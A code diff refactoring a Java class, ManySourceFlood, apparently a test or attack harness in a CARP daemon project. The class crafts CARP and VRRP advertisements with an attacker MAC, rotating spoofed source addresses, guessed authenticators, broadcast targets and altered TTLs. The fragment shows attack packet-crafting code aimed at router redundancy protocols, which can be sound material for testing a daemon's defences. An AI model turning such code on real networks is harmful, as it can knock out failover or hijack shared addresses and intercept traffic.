@@ -6,6 +6,8 @@ import java.util.List;
 import java.util.concurrent.locks.LockSupport;
 import org.carpd.proto.AdvertAuthenticator;
 import org.carpd.proto.AdvertFrames;
+import org.carpd.proto.CarpHeader;
+import org.carpd.proto.VrrpHeader;
 import org.carpd.proto.InternetChecksum;
 import org.carpd.proto.IpPrefix;
 import org.pcap4j.core.PcapHandle;
@@ -104,23 +106,20 @@ public final class ManySourceFlood {
         int id = (int) n & 0xffff;
         switch ((int) (n % KINDS)) {
             case 0:
-                return AdvertFrames.writeIpv4(buffer, ATTACKER_MAC, ipv4Source(n), id, 1, 1, 0, n, guess1);
+                return AdvertFrames.writeToGroup(buffer, ATTACKER_MAC, ipv4Source(n), id, CarpHeader.payload(1, 1, 0, n, guess1));
             case 1:
-                return AdvertFrames.writeIpv6(buffer, ATTACKER_MAC, ipv6Source(n), 1, 1, 0, n, guess1);
+                return AdvertFrames.writeToGroup(buffer, ATTACKER_MAC, ipv6Source(n), 0, CarpHeader.payload(1, 1, 0, n, guess1));
             case 2:
-                return AdvertFrames.writeVrrpIpv4(buffer, AdvertFrames.IPV4_GROUP_MAC, ATTACKER_MAC, ipv4Source(n),
-                        AdvertFrames.IPV4_GROUP, id, 2, 255, 0, vrrpAddresses);
+                return AdvertFrames.write(buffer, AdvertFrames.IPV4_GROUP_MAC, ATTACKER_MAC, ipv4Source(n), AdvertFrames.IPV4_GROUP, id, VrrpHeader.payload(2, 255, 0, vrrpAddresses));
             case 3:
-                return AdvertFrames.writeVrrpIpv4(buffer, AdvertFrames.IPV4_GROUP_MAC, ATTACKER_MAC, ipv4Source(n),
-                        AdvertFrames.IPV4_GROUP, id, 2, 1, 100, vrrpAddresses);
+                return AdvertFrames.write(buffer, AdvertFrames.IPV4_GROUP_MAC, ATTACKER_MAC, ipv4Source(n), AdvertFrames.IPV4_GROUP, id, VrrpHeader.payload(2, 1, 100, vrrpAddresses));
             case 4:
-                return withTtl(AdvertFrames.writeIpv4(buffer, BROADCAST, ATTACKER_MAC, ipv4Source(n), target, id, 3, 1, 0,
-                        n, guess3), 64);
+                return withTtl(AdvertFrames.write(buffer, BROADCAST, ATTACKER_MAC, ipv4Source(n), target, id, CarpHeader.payload(3, 1, 0, n, guess3)), 64);
             case 5:
-                return withTtl(AdvertFrames.writeIpv4(buffer, ATTACKER_MAC, ipv4Source(n), id, 1, 1, 0, n, guess1), 1);
+                return withTtl(AdvertFrames.writeToGroup(buffer, ATTACKER_MAC, ipv4Source(n), id, CarpHeader.payload(1, 1, 0, n, guess1)), 1);
             default:
                 int vhid = 4 + (int) (n % 252);
-                return AdvertFrames.writeIpv4(buffer, ATTACKER_MAC, ipv4Source(n), id, vhid, 1, 0, n, others[vhid]);
+                return AdvertFrames.writeToGroup(buffer, ATTACKER_MAC, ipv4Source(n), id, CarpHeader.payload(vhid, 1, 0, n, others[vhid]));
         }
     }
 
